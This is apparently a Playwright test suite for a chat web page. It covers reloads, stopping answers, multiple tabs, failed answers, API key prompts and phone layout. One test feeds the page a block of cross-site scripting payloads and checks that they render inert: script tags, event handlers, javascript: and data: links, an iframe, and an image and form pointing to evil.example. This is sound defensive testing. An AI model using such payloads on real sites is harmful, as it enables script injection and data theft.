"""The chat page in Chromium, over a good line: docs/chat.md."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser

from tests.browser import PHONE, browsing, needs_chromium
from tests.chat.page import (
    assert_shows,
    conversation_of,
    durable_answer,
    has_state,
    has_words,
    open_chat,
    say,
    turn,
)
from tests.faulty_service import AGENT
from tests.service import TRIP, Service, connect_http, running_service, start_run

pytestmark = needs_chromium

KEY = "a-key-of-the-tests-0123456789"
SECRET = "a-secret-of-the-tests-0123456789-0123456789"
HOSTILE = """<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3">

[run](javascript:window.pwned=4) [run]( java\tscript:alert(1))
[run](data:text/html,<script>window.pwned=5</script>)
[run](vbscript:x) [ref] <javascript:window.pwned=6> [fine](https://example.com/?a=1&amp;b=2)

![leak](https://evil.example/?secret=1)

[ref]: javascript:window.pwned=7

<iframe srcdoc="<script>parent.pwned = 8</script>"></iframe>
<a href="javascript:window.pwned=9" onclick="window.pwned=10">x</a><style>* { display: none }</style>
<form action="https://evil.example"><button>go</button></form>

```html"><img src=x onerror=window.pwned=11>
</code></pre><script>window.pwned = 12</script>
```
"""


@pytest.fixture(scope="module")
def brisk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """A service whose answers take a second or two."""
    with running_service(tmp_path_factory.mktemp("brisk") / "data", DEMO_MODEL_WORDS_PER_SECOND="300") as one:
        yield one


@pytest.fixture(scope="module")
def faulty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """A service whose agent says what it is told to."""
    data_dir = tmp_path_factory.mktemp("faulty") / "data"
    with running_service(data_dir, program="tests.faulty_service") as one:
        yield one


async def test_two_turns_and_a_reload(browser: Browser, brisk: Service) -> None:
    """A plan is asked for and made, with its tool calls; a second turn follows; a reload shows both again."""
    async with browsing(browser) as tabs, connect_http(brisk) as http:
        page = await tabs.new_page()
        await open_chat(page, brisk.url)
        await say(page, TRIP)
        await has_state(page, "done")
        first = await durable_answer(http, page)
        await assert_shows(page, first["response"])
        assert await turn(page).locator(".tool").count() == 2
        await turn(page).locator(".tool summary").first.click()
        assert "Tokyo" in await turn(page).locator(".tool pre").first.inner_text()
        assert await page.locator("#status").inner_text() == "Answer complete"
        await say(page, "Make it a day shorter")
        await has_state(page, "done", 1)
        second = await durable_answer(http, page)
        await page.reload()
        await has_state(page, "done", 1)
        for at, (message, run) in enumerate([(TRIP, first), ("Make it a day shorter", second)]):
            await assert_shows(page, run["response"], at)
            assert await turn(page, at).locator(".you p").inner_text() == message
        await page.locator("#new").click()
        await page.locator("#welcome").wait_for()
        await page.go_back()
        await has_state(page, "done", 1)


async def test_reload_in_mid_answer(browser: Browser, brisk: Service) -> None:
    """A page that is loaded again in the middle of an answer goes on with it."""
    async with browsing(browser) as tabs, connect_http(brisk) as http:
        page = await tabs.new_page()
        await open_chat(page, brisk.url)
        await say(page, TRIP)
        for size in (50, 800, 1_600):
            await has_words(page, size)
            await page.reload()
        await has_state(page, "done")
        assert await turn(page).locator(".you p").inner_text() == TRIP
        await assert_shows(page, (await durable_answer(http, page))["response"])


async def test_stop(browser: Browser, slow_service: Service) -> None:
    """Escape stops the answer; what was said stays, and is still known to be stopped after a reload."""
    async with browsing(browser) as tabs, connect_http(slow_service) as http:
        page = await tabs.new_page()
        await open_chat(page, slow_service.url)
        await page.get_by_role("button", name=TRIP).click()
        await has_words(page, 10)
        await page.keyboard.press("Escape")
        await has_state(page, "stopped")
        assert (await durable_answer(http, page))["status"] == "Canceled"
        await page.reload()
        await has_state(page, "stopped")
        assert "This answer was stopped." in await turn(page).inner_text()
        assert await page.locator("#send").is_visible()


async def test_two_tabs(browser: Browser, brisk: Service) -> None:
    """A second tab on the same conversation sees all of it, live, also what the first one says."""
    async with browsing(browser) as tabs, connect_http(brisk) as http:
        first, second = await tabs.new_page(), await tabs.new_page()
        await open_chat(first, brisk.url)
        await say(first, TRIP)
        await has_words(first, 50)
        await second.goto(first.url)
        await second.wait_for_function("(text) => document.body.textContent.includes(text)", arg=TRIP)
        await has_state(second, "done")
        await say(second, "Make it a day shorter")
        for page in (first, second):
            await has_state(page, "done", 1)
            assert await turn(page, 1).locator(".you p").inner_text() == "Make it a day shorter"
            await assert_shows(page, (await durable_answer(http, page))["response"])
        await first.close()
        await say(second, "Tell me a joke")
        await has_state(second, "done", 2)


async def test_a_conversation_that_began_elsewhere(browser: Browser, brisk: Service) -> None:
    """Opened by its address alone, a conversation's answers are there; its messages were never sent here."""
    async with browsing(browser) as tabs, connect_http(brisk) as http:
        run = await start_run(http)
        page = await tabs.new_page()
        await page.goto(f"{brisk.url}/api/index#TravelPlanner/{run['conversation_id']}")
        await has_state(page, "done")
        await assert_shows(page, (await durable_answer(http, page))["response"])
        assert await turn(page).locator(".you p").inner_text() == "Asked from another place"


async def test_hostile_markdown(browser: Browser, faulty: Service) -> None:
    """Whatever an answer says, nothing runs, nothing of another host is loaded, and it is shown as text."""
    async with browsing(browser) as tabs:
        page = await tabs.new_page()
        hosts = set[str]()
        page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
        await open_chat(page, faulty.url)
        pieces = [HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]
        await say(page, json.dumps([{"say": piece} for piece in pieces]))
        await has_state(page, "done")
        answer = turn(page).locator(".prose")
        assert "<script>window.pwned = 1</script>" in await answer.inner_text()
        assert (
            await answer.locator("img, script, iframe, svg, style, form, [onclick], [onerror]").count() == 0
        )
        links = await answer.locator("a").evaluate_all("links => links.map(link => link.href)")
        assert links == ["https://example.com/?a=1&b=2", "https://evil.example/?secret=1"]
        assert await page.evaluate("window.pwned") is None
        assert hosts == {faulty.url.split("/")[2]}


async def test_an_answer_that_fails(browser: Browser, faulty: Service) -> None:
    """A failed answer says so, keeps what was said, and can be asked for again."""
    async with browsing(browser) as tabs:
        page = await tabs.new_page()
        await open_chat(page, faulty.url)
        await say(page, json.dumps([{"say": "So far **so"}, {"raise": "no"}]))
        await has_state(page, "failed")
        assert (await turn(page).locator(".prose").inner_text()).startswith("So far")
        await turn(page).get_by_role("button", name="Try again").click()
        await has_state(page, "failed", 1)
        assert (await conversation_of(page)) in page.url
        assert AGENT in page.url


async def test_a_key_is_asked_for(browser: Browser, tmp_path: Path) -> None:
    """Where the service wants a key the page asks for one, again if it is wrong; only the tab keeps it."""
    settings = {"API_KEYS": KEY, "STREAM_TOKEN_SECRETS": SECRET, "HEALTH_ANONYMOUS": "false"}
    with running_service(tmp_path / "data", **settings) as service:
        async with browsing(browser) as tabs:
            page = await tabs.new_page()
            await page.goto(service.url)
            for key in ("wrong", KEY):
                await page.locator("#key").wait_for()
                await page.locator("#key-value").fill(key)
                await page.keyboard.press("Enter")
                await page.locator("#key").wait_for(state="hidden" if key == KEY else "visible")
            await say(page, TRIP)
            await has_state(page, "done")
            assert await page.evaluate("localStorage.length") == 0
            assert KEY not in page.url
            await page.reload()
            await has_state(page, "done")
            # Another tab is handed the conversation, and never asks.
            other = await tabs.new_page()
            await other.goto(page.url)
            await has_state(other, "done")
            assert await other.locator("#key").is_hidden()


async def test_phone(browser: Browser, brisk: Service) -> None:
    """On a phone nothing sticks out, Return starts a new line, and the button sends."""
    phone = {"viewport": PHONE, "is_mobile": True, "has_touch": True}
    async with browsing(browser, **phone) as tabs:
        page = await tabs.new_page()
        await open_chat(page, brisk.url)
        await page.locator("#message").fill("Plan a trip")
        await page.keyboard.press("Enter")
        assert await page.locator("#message").input_value() == "Plan a trip\n"
        await page.locator("#message").fill(TRIP)
        await page.locator("#send").tap()
        await has_state(page, "done")
        assert await page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
        box = await page.locator("#message").bounding_box()
        assert box is not None
        assert box["y"] + box["height"] < PHONE["height"]
